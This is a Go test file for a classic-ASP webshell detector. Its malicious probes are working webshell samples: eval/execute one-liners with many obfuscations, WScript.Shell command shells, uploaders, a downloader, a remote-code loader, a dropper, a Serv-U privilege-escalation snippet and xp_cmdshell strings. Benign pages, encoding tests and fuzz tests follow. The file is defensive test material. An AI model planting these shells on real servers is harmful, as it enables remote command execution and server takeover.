package asp

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"math/rand"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/yingji/yingji/internal/webshell/verdict"
)

// probe is a page and what its analysis must find.
type probe struct {
	name string
	src  string
	min  int    // lowest acceptable top score
	rule string // a rule that must be among the detections ("" for none)
}

// Malicious probes, written from public descriptions of ASP webshells:
// one-liners, their obfuscations, command and file shells, uploaders.
var malicious = []probe{
	{"chopper", `<%eval request("pass")%>`, 95, "family.china-chopper"},
	{"chopper-execute", `<%execute request("sb")%>`, 95, "asp.exec-input"},
	{"executeglobal-form", `<%ExecuteGlobal(Request.Form("x"))%>`, 95, "asp.exec-input"},
	{"image-header", "GIF89a\n<%eval request(\"ice\")%>", 95, "asp.exec-input"},
	{"variable-flow", "<%\ndim a, b\na = request(\"pass\")\nb = a\neval b\n%>", 95, "asp.exec-input"},
	{"if-guard", `<%If Request("ah")<>"" Then Execute(Request("ah"))%>`, 95, "asp.exec-input"},
	{"chr-folding", `<%Execute(Chr(101)&Chr(118)&Chr(97)&Chr(108)&Chr(32)&Chr(114)&Chr(101)&Chr(113)&Chr(117)&Chr(101)&Chr(115)&Chr(116)&Chr(40)&Chr(34)&Chr(120)&Chr(34)&Chr(41))%>`, 95, "asp.exec-decoded"},
	{"chr-arithmetic", `<%eval(eval(chr(114)+chr(100+1)+chr(113)+chr(117)+chr(101)+chr(115)+chr(116))("a"))%>`, 95, "asp.exec-input"},
	{"strreverse", `<%execute(strreverse(")""xx""(tseuqer lave"))%>`, 95, "asp.exec-decoded"},
	{"strreverse-request", `<%executeGlobal(StrReverse(Request(Chr(98))))%>`, 95, "asp.exec-input"},
	{"replace", `<%Execute(Replace("evXXal reqXXuest(""a"")","XX",""))%>`, 95, "asp.exec-decoded"},
	{"unescape", `<%execute(unescape("eval%20request%28%22aaa%22%29"))%>`, 95, "asp.exec-decoded"},
	{"split-join", "<%\nc = split(\"ev@@al req@@uest(\"\"p\"\")\", \"@@\")\nfor i = 0 to ubound(c)\nt = t & c(i)\nnext\nexecute t\n%>", 95, "asp.exec-decoded"},
	{"hex-decoder", `<%
Function H(s)
	Dim i
	For i = 1 To Len(s) Step 2
		H = H & Chr(CLng("&H" & Mid(s, i, 2)))
	Next
End Function
Execute H("6576616c20726571756573742822636d642229")
%>`, 95, "asp.exec-decoded"},
	{"session", `<script language="vbscript" runat="server">
If Request("k")<>"" Then Session("code")=Request("k")
If Session("code")<>"" Then Execute(Session("code"))
</script>`, 95, "asp.exec-input"},
	{"sink-wrapper", "<%\nSub Run(code)\n\tExecute code\nEnd Sub\nRun Request.Form(\"c\")\n%>", 95, "asp.exec-input"},
	{"taint-through-function", "<%\nFunction D(s)\n\tD = StrReverse(Replace(s, \"!\", \"\"))\nEnd Function\nExecute D(Request(\"x\"))\n%>", 95, "asp.exec-input"},
	{"array", "<%\na = Split(Request.QueryString(\"x\"), \"|\")\nExecute a(1)\n%>", 95, "asp.exec-input"},
	{"config-fragment", `1":eval request("a")'`, 95, "asp.exec-input"},
	{"tagless", `if Request("sb")<>"" then ExecuteGlobal request("sb") end if`, 95, "asp.exec-input"},
	{"utf7", "<%@codepage=65000%>\n<%e+x-v+x-a+x-l(+x-r+x-e+x-q+x-u+x-e+x-s+x-t+x-(+ACI-c+ACI)+x-)+x-%>", 95, "asp.utf7"},
	{"wscript-shell", "<%\nSet ws = Server.CreateObject(\"WScript.Shell\")\nSet r = ws.Exec(\"cmd /c \" & Request(\"cmd\"))\nResponse.Write r.StdOut.ReadAll\n%>", 95, "asp.cmd-input"},
	{"wscript-obfuscated-name", "<%\nSet ws = CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\")\nws.Run Request.Form(\"c\"), 0, True\n%>", 95, "asp.cmd-input"},
	{"wscript-chr-name", "<%\nSet ws = CreateObject(Chr(87)&Chr(83)&Chr(99)&Chr(114)&Chr(105)&Chr(112)&Chr(116)&Chr(46)&Chr(83)&Chr(104)&Chr(101)&Chr(108)&Chr(108))\nws.Run Request(\"c\")\n%>", 95, "asp.cmd-input"},
	{"object-tag", `<object runat=server id=ws scope=page classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>
<%= ws.exec("cmd.exe /c " & request("c")).stdout.readall %>`, 95, "asp.cmd-input"},
	{"shell-application", "<%\nSet sa = Server.CreateObject(\"Shell.Application\")\nsa.ShellExecute \"cmd.exe\", \"/c \" & Request(\"c\"), \"\", \"open\", 0\n%>", 95, "asp.cmd-input"},
	{"scriptcontrol", `<%
Set o = Server.CreateObject("ScriptControl")
o.Language = "vbscript"
o.AddCode(Request("SubCode"))
%>`, 95, "asp.exec-input"},
	{"fso-writer", `<%
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile(Request("path"), True)
f.Write Request("content")
f.Close
%>`, 75, "asp.file-write-input"},
	{"fso-self-rewrite", `<%
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile(Server.MapPath(Request.ServerVariables("SCRIPT_NAME")), True)
f.Write Request.Form("data")
%>`, 75, "asp.file-write-script"},
	{"stream-uploader", `<%
set gl = server.CreateObject("Adodb.Stream")
gl.Open
gl.Type = 2
gl.CharSet = "gb2312"
gl.WriteText request("code")
gl.SaveToFile server.mappath(request("path")), 2
gl.Close
%>`, 75, "asp.upload-input"},
	{"downloader", `<%
Set x = Server.CreateObject("Microsoft.XMLHTTP")
x.Open "GET", Request("url"), False
x.Send
Set s = Server.CreateObject("ADODB.Stream")
s.Type = 1
s.Open
s.Write x.ResponseBody
s.SaveToFile Server.MapPath(Request("name")), 2
%>`, 75, "asp.download-save"},
	{"remote-code", `<%
Function Get(u)
	Set h = CreateObject("MSXML2.ServerXMLHTTP")
	h.Open "GET", u, False
	h.Send
	Get = h.ResponseText
End Function
Execute Get("http://example.invalid/x.txt")
%>`, 90, "asp.exec-remote"},
	{"jscript-page", `<%@ Language="JScript" %><% eval(Request.Form("z")+"") %>`, 95, "asp.exec-input"},
	{"jscript-alias", `<SCRIPT RUNAT=SERVER LANGUAGE=JAVASCRIPT>var P = Request.form('z'); var W = {'E' : eval}; W.E(P+'');</SCRIPT>`, 95, "asp.exec-input"},
	{"jscript-function-ctor", `<%@ Language="JScript" %><% new Function(Request.Item("x"))(); %>`, 95, "asp.exec-input"},
	{"jscript-fromcharcode", `<%@ Language="JScript" %><% var c = String.fromCharCode(82,101,113,117,101,115,116); eval(eval(c)("z")); %>`, 95, "asp.exec-input"},
	{"jscript-returned-eval", `<%@LANGUAGE="javascript"%><%_()(_(!-''));function _(__){if(__){return Request('_')+''}else{return eval}}%>`, 95, "asp.exec-input"},
	{"jscript-activex", `<%@ Language="JScript" %><% var s = new ActiveXObject("WScript.Shell"); s.Run("cmd /c " + Request.QueryString("c")); %>`, 95, "asp.cmd-input"},
	{"jscript-hex-switch", `<SCRIPT RUNAT=SERVER LANGUAGE=JAVASCRIPT>
var Sp = String(Request.form('z'));
var F = {'E':eval};
var A = "H52H65H73H70H6FH6EH73H65H2EH57H72H69H74H65H28H52H65H71H75H65H73H74H2EH66H6FH72H6DH28H27H63H27H29H29";
F.E(unescape(A.replace(/H/g,"%"))+'');
</SCRIPT>`, 85, "asp.exec-decoded"},
	{"xslt", `<%
set xml = Server.CreateObject("MSXML2.DOMDocument")
xml.loadxml("<root>cmd /c dir</root>")
set xsl = Server.CreateObject("MSXML2.DOMDocument")
xsl.loadxml("<xsl:stylesheet version=""1.0"" xmlns:xsl=""http://www.w3.org/1999/XSL/Transform"" xmlns:msxsl=""urn:schemas-microsoft-com:xslt"" xmlns:u=""u""><msxsl:script language=""JScript"" implements-prefix=""u""> function x(c) {var a=new ActiveXObject('wscript.shell'); return a.Exec(c).StdOut.ReadAll(); }</msxsl:script></xsl:stylesheet>")
response.write xml.TransformNode(xsl)
%>`, 80, "asp.xslt-script"},
	{"dropper", `<%
Set fso = CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile("c:\windows\temp\x.vbs", True)
f.Write "Set s = CreateObject(""WScript.Shell"")"
f.Close
Set sh = CreateObject("WScript.Shell")
sh.Run "c:\windows\temp\x.vbs", 0, False
%>`, 85, "asp.drop-and-run"},
	{"big-shell", `<%
Action = Request("Action")
Select Case Action
Case "List"
	Set fso = Server.CreateObject("Scripting.FileSystemObject")
	Set fd = fso.GetFolder(Request("Path"))
	For Each f In fd.Files
		Response.Write f.Name & "<br>"
	Next
Case "Del"
	Set fso = Server.CreateObject("Scripting.FileSystemObject")
	fso.DeleteFile Request("Path")
Case "Cmd"
	Set ws = Server.CreateObject("WScript.Shell")
	Response.Write ws.Exec(Request("Cmd")).StdOut.ReadAll
Case "Db"
	Set conn = Server.CreateObject("ADODB.Connection")
	conn.Open Request("ConnStr")
	Set rs = conn.Execute(Request("Sql"))
End Select
%>`, 95, "asp.big-shell"},
	{"file-manager-disk", `<%
p = Request("path")
If p = "" Then p = "C:\"
Set fso = Server.CreateObject("Scripting.FileSystemObject")
For Each d In fso.GetFolder(p).SubFolders
	Response.Write d.Name & "<br>"
Next
%>`, 65, "asp.file-manager"},
	{"servu", `<%
u = Request("u")
Set a = Server.CreateObject("Microsoft.XMLHTTP")
a.open "GET", "http://127.0.0.1:43958/goldsun/upadmin/s1", True, "", ""
a.send "User LocalAdministrator" & vbCrLf & "Pass #l@$ak#.lk;0@P" & vbCrLf & "SITE MAINTENANCE" & vbCrLf & "-SETUSERSETUP" & vbCrLf & u
%>`, 85, "asp.servu-privesc"},
	{"gbk-comments", "<%\n' \xc3\xdc\xc2\xeb \xba\xa3\xd1\xf4\xb6\xa5\xb6\xcb\xcd\xf8\nx = \"\xd6\xd0\xce\xc4\"\nExecute Request(\"\xd6\xd0\")\n%>", 95, "asp.exec-input"},
	{"curly-quotes", "<%execute request(\xe2\x80\x9csb\xe2\x80\x9d)%>", 95, "asp.exec-input"},
	{"line-continuation", "<%\ncode = Request. _\n\tForm(\"c\")\nExecute _\n\tcode\n%>", 95, "asp.exec-input"},
	{"db-manager", `<%
Set conn = Server.CreateObject("ADODB.Connection")
conn.Open "Provider=SQLOLEDB;Data Source=" & Request("host") & ";User ID=" & Request("user") & ";Password=" & Request("pass")
Set rs = conn.Execute(Trim(Request("sql")))
Response.Write "exec master..xp_cmdshell 'dir'"
q = "exec master..xp_cmdshell"
%>`, 80, "asp.sql-cmdshell"},
	{"jscript-json-eval", `<%@ Language="JScript" %><% var o = eval("(" + Request.Form("data") + ")"); %>`, 70, "asp.exec-input-json"},
	{"with-stream", `<%
With Server.CreateObject("ADODB.Stream")
	.Type = 1
	.Open
	.Write Request.BinaryRead(Request.TotalBytes)
	.SaveToFile Request.QueryString("f"), 2
End With
%>`, 75, "asp.upload-input"},
	{"write-wrapper", `<%
Sub SaveFile(p, body)
	Set fso = Server.CreateObject("Scripting.FileSystemObject")
	Set ts = fso.CreateTextFile(p, True)
	ts.Write body
	ts.Close
End Sub
Select Case Request("action")
Case "save"
	Call SaveFile(Request("filename"), Request("content"))
End Select
%>`, 75, "asp.file-write-input"},
	{"byref-objects", `<%
Dim F, W
Sub CreateObj(F, W)
	Set F = Server.CreateObject("Scripting.FileSystemObject")
	Set W = Server.CreateObject("WScript.Shell")
End Sub
CreateObj F, W
Function RunCmd(c)
	RunCmd = W.Exec(c).StdOut.ReadAll()
End Function
Response.Write RunCmd("cmd /c " & Request("cmd"))
%>`, 95, "asp.cmd-input"},
	{"write-probe", `<%
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Function Probe(dir)
	On Error Resume Next
	fso.CreateTextFile(dir & "\" & fso.GetTempName)
	Probe = (Err.Number = 0)
	Err.Clear
End Function
Sub Clean(dir)
	fso.DeleteFile(dir & "\*.tmp")
End Sub
Sub Walk(p)
	If Probe(p) Then Response.Write p & " writable<br>": Clean p
	For Each d In fso.GetFolder(p).SubFolders
		Walk p & "\" & d.Name
	Next
End Sub
Walk Request("root")
%>`, 60, "asp.write-probe"},
	{"db-browser", `<%
Set conn = Server.CreateObject("ADODB.Connection")
conn.Open "Provider=SQLOLEDB;Server=" & Request("host") & ";UID=" & Request("user") & ";PWD=" & Request("pass")
Set rs = conn.Execute("SELECT * FROM [" & Request("table") & "]")
Do While Not rs.EOF
	Response.Write rs(0) & "<br>"
	rs.MoveNext
Loop
%>`, 60, "asp.db-browser"},
	{"undefined-in-class-name", `<%
Set o = Server.CreateObject("Scr" & nothingAssigned & "ipting.FileSystemObject")
Set t = o.CreateTextFile(Request("p"), True)
t.Write Request("d")
%>`, 75, "asp.file-write-input"},
	{"missing-separator", `<% a=request(chr(97)) ExecuteGlobal(StrReverse(a)) %>`, 95, "asp.exec-input"},
	{"hidden-through-replace", `<%
Function Unwheel(s, k)
	For i = 1 To Len(s)
		For j = 1 To 5000
			k = (k * 31 + j) Mod 65521
		Next
		t = t & Mid(s, i, 1)
	Next
	Unwheel = t
End Function
code = Unwheel("` + strings.Repeat("Zq3!xP0@Lm9#Rt7$", 40) + `", "key")
code = Replace(code, "~", vbCrLf)
Session("c") = code
Execute(Session("c"))
%>`, 70, "asp.exec-hidden"},
	{"skeleton", `<%eval("e"&"v"&"a"&"l"&"("&"r"&"e"&"q"&"u"&"e"&"s"&"t"&"("&("x" - "y")&")"&")")%>`, 95, "asp.exec-input"},
	{"decoder-prepend", `<%
Function Rev(s)
	For i = 1 To Len(s)
		If Mid(s, i, 1) <> "~" Then
			r = Mid(s, i, 1) + r
		Else
			r = vbCrLf + r
		End If
	Next
	Rev = r
End Function
Execute Rev(")""x""(tseuqer lave~1 = a")
%>`, 95, "asp.exec-input"},
	{"upload-dictionary", `<%
Function Parse(bin)
	Dim part
	Set part = CreateObject("Scripting.Dictionary")
	part.Add "Value", MidB(bin, 10, 100)
	fields.Add "f", part
End Function
Set fields = CreateObject("Scripting.Dictionary")
Parse Request.BinaryRead(Request.TotalBytes)
data = fields.Item("f").Item("Value")
name = fields("path")
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set out = fso.CreateTextFile(name)
For i = 1 To LenB(data)
	out.Write Chr(AscB(MidB(data, i, 1)))
Next
%>`, 75, "asp.upload-input"},
	{"dictionary-entry", `<%
Set d = CreateObject("Scripting.Dictionary")
d("code") = Request.Form("c")
Execute d("code")
%>`, 95, "asp.exec-input"},
	{"mswc-tools", `<%
Set t = Server.CreateObject("MSWC.Tools")
t.ProcessForm Request.Form("to"), Request.Form("from")
%>`, 75, "asp.file-write-input"},
}

// benign probes: ordinary pages that share vocabulary with webshells.
var benign = []probe{
	{"execute-constant", `<% Execute "Dim x: x = 1": ExecuteGlobal "Const A = 2" %>`, 0, ""},
	{"eval-constant-expression", `<% n = Eval("1 + 2") : Response.Write n %>`, 0, ""},
	{"response-only", `<html><body><%= Now() %> <%Response.Write(Request.QueryString("name"))%></body></html>`, 0, ""},
	{"sql-concatenation", `<% Set rs = conn.Execute("select * from news where id=" & Request("id")) %>`, 0, ""},
	{"includes", "<!--#include file=\"conn.asp\"-->\n<!--#include virtual=\"/inc/top.asp\"-->\n<% Call Header() %>", 0, ""},
	{"chr-crlf", `<% s = "a" & Chr(13) & Chr(10) & "b" & Chr(34) %>`, 0, ""},
	{"jscript-json", `<%@ Language="JScript" %><% var o = {"a": 1, "b": [1,2,3]}; Response.Write(o.b.join(",")); var re = /a\/b/g; var x = "a/b".replace(re, "c"); %>`, 0, ""},
	{"guestbook-fixed-file", `<%
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set f = fso.OpenTextFile(Server.MapPath("data/book.txt"), 8, True)
f.WriteLine Server.HTMLEncode(Request.Form("name")) & "|" & Server.HTMLEncode(Request.Form("msg"))
f.Close
%>`, 0, ""},
	{"dispatch-skeleton", `<%
cls = Application("handler")
Execute("Set h = New " & cls & " : h.Run CLng(Request.QueryString(""id""))")
ExecuteGlobal "Const VERSION_" & Application("ver") & " = ""1.0"""
%>`, 0, ""},
	{"installer", `<%
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile(Server.MapPath("inc/config.asp"), True)
f.WriteLine "<" & "%"
f.WriteLine "Const DBServer = """ & Replace(Request.Form("server"), """", "") & """"
f.WriteLine "%" & ">"
f.Close
Set conn = Server.CreateObject("ADODB.Connection")
conn.Open "Provider=SQLOLEDB;Data Source=" & Request.Form("server") & ";User ID=" & Request.Form("user") & ";Password=" & Request.Form("pass")
%>`, 0, ""},
	{"upload-checked", `<%
Function Parse(bin)
	Dim part
	Set part = CreateObject("Scripting.Dictionary")
	part.Add "Value", MidB(bin, 10, 100)
	fields.Add "f", part
End Function
Set fields = CreateObject("Scripting.Dictionary")
Parse Request.BinaryRead(Request.TotalBytes)
data = fields.Item("f").Item("Value")
name = fields("name")
If LCase(Mid(name, InStrRev(name, ".") + 1)) <> "jpg" Then Response.End
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set out = fso.CreateTextFile(Server.MapPath("upload/") & name)
For i = 1 To LenB(data)
	out.Write Chr(AscB(MidB(data, i, 1)))
Next
%>`, 0, ""},
	{"dictionary-form", `<%
Set d = CreateObject("Scripting.Dictionary")
For Each k In Request.Form
	d(k) = Request.Form(k)
Next
Response.Write Server.HTMLEncode(d("name"))
%>`, 0, ""},
	{"mswc-tools-fixed", `<%
Set t = Server.CreateObject("MSWC.Tools")
t.ProcessForm "guest/out.htm", "guest/template.htm", "<!-- here -->"
%>`, 0, ""},
}

func top(ds []verdict.Detection) (int, []string) {
	var rules []string
	for _, d := range ds {
		rules = append(rules, d.Rule)
	}
	return verdict.Max(ds), rules
}

func TestMaliciousProbes(t *testing.T) {
	for _, p := range malicious {
		t.Run(p.name, func(t *testing.T) {
			ds := analyze([]byte(p.src))
			score, rules := top(ds)
			if score < p.min {
				t.Errorf("top score %d < %d; rules %v", score, p.min, rules)
			}
			if p.rule != "" && !hasRule(ds, p.rule) {
				t.Errorf("rule %s missing; rules %v", p.rule, rules)
			}
			for _, d := range ds {
				if d.Why == "" || d.WhyZh == "" {
					t.Errorf("%s: empty explanation", d.Rule)
				}
			}
		})
	}
}

func hasRule(ds []verdict.Detection, rule string) bool {
	for _, d := range ds {
		if d.Rule == rule {
			return true
		}
	}
	return false
}

func TestBenignProbes(t *testing.T) {
	for _, p := range benign {
		t.Run(p.name, func(t *testing.T) {
			if score, rules := top(analyze([]byte(p.src))); score >= verdict.Report {
				t.Errorf("benign page scored %d: %v", score, rules)
			}
		})
	}
	files, err := filepath.Glob("testdata/benign/*.asp")
	if err != nil || len(files) == 0 {
		t.Fatal("no benign pages in testdata/benign")
	}
	for _, f := range files {
		t.Run(filepath.Base(f), func(t *testing.T) {
			b, err := os.ReadFile(f)
			if err != nil {
				t.Fatal(err)
			}
			if score, rules := top(analyze(b)); score >= verdict.Report {
				t.Errorf("benign page scored %d: %v", score, rules)
			}
		})
	}
}

// TestEncodings: UTF-16 pages (with and without BOM) and GBK pages are
// analysed as the server reads them.
func TestEncodings(t *testing.T) {
	src := "<%\r\n' comment\r\nExecute Request(\"x\")\r\n%>"
	u16 := func(s string, bom bool) []byte {
		var b []byte
		if bom {
			b = []byte{0xFF, 0xFE}
		}
		for _, u := range utf16.Encode([]rune(s)) {
			b = append(b, byte(u), byte(u>>8))
		}
		return b
	}
	for name, b := range map[string][]byte{"utf16-bom": u16(src, true), "utf16": u16(src, false), "utf8-bom": append([]byte{0xEF, 0xBB, 0xBF}, src...)} {
		ds := analyze(b)
		if !hasRule(ds, "asp.exec-input") {
			t.Errorf("%s: no exec-input: %v", name, ds)
			continue
		}
		for _, d := range ds {
			if d.Rule == "asp.exec-input" && (d.Sink.Line != 3 || d.Source.Line != 3) {
				t.Errorf("%s: sink line %d, source line %d, want 3", name, d.Sink.Line, d.Source.Line)
			}
		}
	}
}

// TestLines: sources and sinks carry the page's own line numbers and
// excerpts, also when the code spans several blocks.
func TestLines(t *testing.T) {
	src := "<html>\n<body>\n<%\nDim c\nc = Request.Form(\"cmd\")\n%>\n<p>x</p>\n<%\nSet s = CreateObject(\"WScript.Shell\")\ns.Run c\n%>\n</body></html>\n"
	ds := analyze([]byte(src))
	for _, d := range ds {
		if d.Rule != "asp.cmd-input" {
			continue
		}
		if d.Source.Line != 5 || d.Sink.Line != 10 {
			t.Errorf("source line %d (want 5), sink line %d (want 10)", d.Source.Line, d.Sink.Line)
		}
		if d.Sink.Excerpt != "s.Run c" {
			t.Errorf("sink excerpt %q", d.Sink.Excerpt)
		}
		return
	}
	t.Fatalf("no cmd-input: %v", ds)
}

// encodeScript is the Microsoft Script Encoder, for tests: the inverse
// of the decoding tables.
func encodeScript(plain string) string {
	var inv [3][128]byte
	for m := 0; m < 3; m++ {
		for e := 0; e < 128; e++ {
			if e == 9 || e >= 0x20 && e != '<' && e != '>' && e != '@' {
				inv[m][scrdecTables[m][e]] = byte(e)
			}
		}
	}
	var out []byte
	sum := 0
	for i := 0; i < len(plain); i++ {
		c := plain[i]
		m := scrdecPick[i%64] - '0'
		sum += int(c)
		switch c {
		case '\n':
			out = append(out, '@', '&')
		case '\r':
			out = append(out, '@', '#')
		case '<':
			out = append(out, '@', '!')
		case '>':
			out = append(out, '@', '*')
		case '@':
			out = append(out, '@', '$')
		default:
			out = append(out, inv[m][c])
		}
	}
	n := make([]byte, 4)
	binary.LittleEndian.PutUint32(n, uint32(len(out)))
	s := make([]byte, 4)
	binary.LittleEndian.PutUint32(s, uint32(sum))
	return "#@~^" + base64.StdEncoding.EncodeToString(n) + string(out) + base64.StdEncoding.EncodeToString(s) + "^#~@"
}

func TestScriptEncoder(t *testing.T) {
	r := rand.New(rand.NewSource(1))
	for n := 0; n < 200; n++ {
		b := make([]byte, r.Intn(300))
		for i := range b {
			switch k := r.Intn(20); {
			case k == 0:
				b[i] = '\n'
			case k == 1:
				b[i] = '\t'
			default:
				b[i] = byte(0x20 + r.Intn(0x5F))
			}
		}
		enc := encodeScript(string(b))
		dec, segs := decodeScriptEncoder([]byte(enc))
		if segs != 1 || !bytes.Equal(dec, b) {
			t.Fatalf("round trip of %q: got %q (%d segments)", b, dec, segs)
		}
	}
	// A tab expanded into spaces and DEL turned into a space by an editor
	// are repaired with the declared length and checksum.
	plain := "If Request(\"x\") <> \"\" Then\n\tExecute Request(\"x\")\nEnd If"
	enc := encodeScript(plain)
	damaged := strings.Replace(strings.Replace(enc, "\t", "    ", 1), "\x7f", " ", -1)
	if dec, _ := decodeScriptEncoder([]byte(damaged)); string(dec) != plain {
		t.Errorf("repair failed: %q", dec)
	}

	// A character lost in the middle of a long segment shifts the tables
	// for the rest of it: the decoder finds the shift again.
	var long strings.Builder
	for i := 0; i < 40; i++ {
		long.WriteString("Response.Write \"<tr><td>\" & rs(\"name\") & \"</td></tr>\"\r\n")
	}
	long.WriteString("Set sh = Server.CreateObject(\"WScript.Shell\")\r\n")
	enc = encodeScript(long.String())
	cut := len(enc) / 3
	damaged = enc[:cut] + enc[cut+1:]
	if dec, _ := decodeScriptEncoder([]byte(damaged)); !strings.Contains(string(dec), "Set sh = Server.CreateObject(\"WScript.Shell\")") {
		t.Errorf("no resynchronisation after a lost character: ...%q", dec[max(0, len(dec)-120):])
	}

	// A truncated copy (no trailer) whose tabs became three spaces and
	// whose DELs became spaces: the tabs and DELs are restored and the
	// lines resynchronised without a checksum to confirm.
	long.Reset()
	for i := 0; i < 20; i++ {
		long.WriteString("\tResponse.Write \"<tr><td>\" & rs(\"name\") & \"</td></tr>\"\r\n")
	}
	long.WriteString("\tSet sh = Server.CreateObject(\"WScript.Shell\")\r\nsh.Run Request(\"c\")\r\n")
	enc = encodeScript(long.String())
	enc = enc[:strings.LastIndex(enc, "==^#~@")-6]
	damaged = strings.ReplaceAll(strings.ReplaceAll(enc, "\t", "   "), "\x7f", " ")
	if dec, _ := decodeScriptEncoder([]byte(damaged)); !strings.Contains(string(dec), "Set sh = Server.CreateObject(\"WScript.Shell\")") {
		t.Errorf("truncated segment not repaired: ...%q", dec[max(0, len(dec)-120):])
	}

	page := "<%@ LANGUAGE = VBScript.Encode %>\n<html>\n<%" + encodeScript("\r\nDim a\r\na = Request(\"pass\")\r\nExecute a\r\n") + "%>\n</html>"
	ds := analyze([]byte(page))
	if !hasRule(ds, "asp.exec-input") || !hasRule(ds, "asp.script-encoded") {
		t.Fatalf("encoded one-liner: %v", ds)
	}
	for _, d := range ds {
		if d.Rule == "asp.exec-input" {
			if d.Sink.Line != 3 || !strings.Contains(d.Sink.Excerpt, "Execute a") {
				t.Errorf("sink %+v: want line 3 with the decoded text", d.Sink)
			}
			if len(d.Steps) == 0 || !strings.Contains(d.Steps[0].What, "Script Encoder") {
				t.Errorf("steps %v: want the Script Encoder first", d.Steps)
			}
		}
	}
	benignPage := "<%@ LANGUAGE = VBScript.Encode %><%" + encodeScript("Response.Write \"Hello \" & Server.HTMLEncode(Request(\"name\"))") + "%>"
	if score, rules := top(analyze([]byte(benignPage))); score >= verdict.Report || !hasRule(analyze([]byte(benignPage)), "asp.script-encoded") {
		t.Errorf("encoded benign page: %d %v", score, rules)
	}
}

// TestForeign: ASP.NET and JSP pages are not classic ASP.
func TestForeign(t *testing.T) {
	for _, src := range []string{
		`<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>`,
		`<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>`,
		`<?php eval($_POST['x']); ?>`,
	} {
		if ds := analyze([]byte(src)); len(ds) != 0 {
			t.Errorf("%q: %v", src, ds)
		}
	}
}

// TestHostile: degenerate inputs end and never panic. The bounds
// (budgets, depth, sizes) end them; how soon is for the benchmarks, and
// a hang for the test's timeout.
func TestHostile(t *testing.T) {
	inputs := []string{
		"<%" + strings.Repeat("(", 100000) + "%>",
		"<%" + strings.Repeat("If a Then\n", 20000) + "%>",
		"<%" + strings.Repeat("x = x & \"a\"\n", 20000) + "Execute x%>",
		"<%Do\nLoop\nWhile 1\nWend\nFor i = 1 To 1e15\nNext\nExecute \"a\"%>",
		"<%Function f(x)\nf = f(x & x)\nEnd Function\nExecute f(\"a\")%>",
		"<script runat=server language=jscript>" + strings.Repeat("{", 50000) + "</script>",
		"<%s=\"\":for i=1 to 100000000:s=s&\"aaaaaaaaaaaaaaaaaaaa\":next:execute s%>",
		"<%#@~^AAAAAA==^#~@%>",
		"<%" + strings.Repeat("\"", 1001) + "%>",
		"\xff\xfe<\x00%\x00",
		"<%@codepage=65000%><%+" + strings.Repeat("A", 10000),
	}
	for i, s := range inputs {
		start := time.Now()
		ds := analyze([]byte(s))
		for _, d := range ds {
			if d.Score < 0 || d.Score > 100 || d.Rule == "" {
				t.Errorf("input %d: bad detection %+v", i, d)
			}
		}
		t.Logf("input %d: %v", i, time.Since(start))
	}
}

func FuzzAnalyze(f *testing.F) {
	for _, p := range malicious {
		f.Add([]byte(p.src))
	}
	for _, p := range benign {
		f.Add([]byte(p.src))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		if len(b) > 4096 {
			return
		}
		start := time.Now()
		ds := analyze(b)
		if d := time.Since(start); d > 15*time.Second {
			t.Fatalf("analysis took %v", d)
		}
		for _, d := range ds {
			if d.Score < 0 || d.Score > 100 || d.Rule == "" {
				t.Fatalf("bad detection %+v", d)
			}
		}
		// Deciding only the verdict reports what the full analysis does.
		if ex, de := verdict.Max(ds) >= verdict.Report, verdict.Max(analyzeFor(b, true)) >= verdict.Report; ex != de {
			t.Fatalf("reported %v with Explain, %v with Decide", ex, de)
		}
	})
}
